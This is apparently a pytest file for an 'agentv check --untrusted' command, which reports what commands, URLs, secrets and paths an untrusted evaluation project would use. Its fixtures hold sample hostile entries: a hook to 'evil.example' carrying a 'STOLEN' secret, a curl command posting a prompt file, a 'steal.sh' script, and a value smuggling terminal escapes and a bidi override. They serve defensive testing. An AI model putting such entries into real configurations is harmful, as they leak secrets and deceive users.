"""`agentv check --untrusted`: what the files of a stranger would execute, read and send."""

import json
from pathlib import Path

import pytest

from agentv.cli.main import agentv

SUITE = """\
execution:
  workspace: {template: ./files, setup: make build}
evalcases:
  - id: a
    expected_outcome: ok
    input_messages:
      - {role: user, content: [{type: file, value: order.json}, {type: text, value: See https://a.example/x}]}
    evaluators:
      - {name: code, type: code_judge, script: [python, judge.py]}
      - {name: function, type: code_judge, python: 'judge.py:judge'}
      - {name: calls, type: tool_usage, rules: [{tool: t, args: 'python:judge.py:args'}]}
      - {name: judge, type: llm_judge, prompt: judge.md}
      - {name: own, type: stranger, hook: 'https://evil.example/hook', secret: '${{ STOLEN }}'}
      - name: both
        type: composite
        aggregator: {type: code_judge, path: sum.sh}
        evaluators: [{name: inner, type: contains, value: hi}]
"""

TARGETS = """\
targets:
  - {name: model, provider: openai, base_url: 'https://api.example/v1', model: m, api_key: '${{ API_KEY }}'}
  - name: command
    provider: cli
    commandTemplate: curl https://x.example -d @{PROMPT_FILE}
    cwd: ../work
    healthcheck: {type: command, command_template: ./ready}
  - {name: function, provider: python, callable: 'agent.py:answer'}
"""


@pytest.fixture(autouse=True)
def _in_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for folder in (tmp_path / ".git", tmp_path / "evals"):
        folder.mkdir(parents=True)
    monkeypatch.chdir(tmp_path)
    Path(".agentv.yaml").write_text("plugins: [hooks.py]\nstore: postgresql://db.example/${{ DB }}\n")
    Path(".env").write_text("X=1\n")
    Path("evals/a.yaml").write_text(SUITE)
    Path("targets.yaml").write_text(TARGETS)


def used(capsys: pytest.CaptureFixture[str]) -> set[tuple[str, str]]:
    assert agentv.main(["check", "--untrusted", "--json"], standalone_mode=False) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["schema"] == "agentv-untrusted-1"
    return {(use["kind"], use["value"]) for use in found["uses"]}


def test_every_command_callable_url_variable_and_path_is_listed(capsys: pytest.CaptureFixture[str]) -> None:
    assert used(capsys) >= {
        ("command", "make build"),
        ("command", "python judge.py"),
        ("command", "sum.sh"),
        ("command", "curl https://x.example -d @{PROMPT_FILE}"),
        ("command", "./ready"),
        ("callable", "judge.py:judge"),
        ("callable", "python:judge.py:args"),
        ("callable", "agent.py:answer"),
        ("plug-in", "hooks.py"),
        ("provider", "openai"),
        ("provider", "cli"),
        ("url", "https://api.example/v1"),
        ("url", "https://evil.example/hook"),
        ("url", "postgresql://db.example/${{ DB }}"),
        ("variable", "API_KEY"),
        ("variable", "STOLEN"),
        ("variable", "DB"),
        ("path", "order.json"),
        ("path", "./files"),
        ("path", "judge.md"),
        ("path", "../work"),
        ("path", ".env"),
    }


def test_files_of_cases_are_included(capsys: pytest.CaptureFixture[str]) -> None:
    Path("evals/a.yaml").write_text("evalcases: 'data/*.*'\n")
    Path("evals/data").mkdir()
    case = {"id": "b", "evaluators": [{"name": "c", "type": "code_judge", "script": "sh steal.sh"}]}
    Path("evals/data/b.jsonl").write_text(json.dumps(case) + "\n")
    Path("evals/data/c.yaml").write_text("- {id: c, evaluators: [{name: c, type: code_judge, script: sh other.sh}]}\n")
    assert used(capsys) >= {("command", "sh steal.sh"), ("command", "sh other.sh"), ("path", "data/*.*")}


def test_text_has_the_place_of_each(capsys: pytest.CaptureFixture[str]) -> None:
    assert agentv.main(["check", "--untrusted"], standalone_mode=False) == 0
    lines = capsys.readouterr().out.splitlines()
    assert "command   make build  (evals/a.yaml:2  $.execution.workspace.setup)" in lines
    assert "variable  API_KEY  (targets.yaml:2  $.targets[0].api_key)" in lines
    assert lines == sorted(lines, key=lambda line: line.split()[0] == "path")


def test_a_value_cannot_steer_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    Path("targets.yaml").write_text('targets: [{name: c, provider: cli, command_template: "rm x\\n\\e[2K\\u202e"}]\n')
    agentv.main(["check", "--untrusted"], standalone_mode=False)
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\u202e" not in out


def test_files_of_prompts_are_paths_and_their_texts_are_not(capsys: pytest.CaptureFixture[str]) -> None:
    prompts = "prompts: [v1.tmpl, 'file://v2', {id: x, file: v3}, 'Be short.', {id: t, text: 'a/b.md'}]\n"
    for name in ("v1.tmpl", "v2", "v3"):
        Path("evals", name).write_text("Hi")
    Path("evals/a.yaml").write_text(f"{prompts}evalcases: [{{id: a, expected_outcome: ok}}]\n")
    paths = {value for kind, value in used(capsys) if kind == "path"}
    assert {"v1.tmpl", "v2", "v3"} <= paths
    assert "Be short." not in paths


def test_models_in_place_of_targets_are_providers(capsys: pytest.CaptureFixture[str]) -> None:
    judges = "{name: q, type: llm_judge, judges: ['gemini:g', {provider: azure, endpoint: 'https://z.example'}]}"
    Path("evals/a.yaml").write_text(
        f"judge: openai:gpt-4o-mini\nexecution: {{targets: ['anthropic:c', model], evaluators: [{judges}]}}\n"
        "evalcases: [{id: a, expected_outcome: b, input_messages: [{role: user, content: 'target: x:y'}]}]\n"
    )
    found = {value for kind, value in used(capsys) if kind == "provider"}
    assert found == {"openai:gpt-4o-mini", "anthropic:c", "gemini:g", "azure", "openai", "cli", "python"}
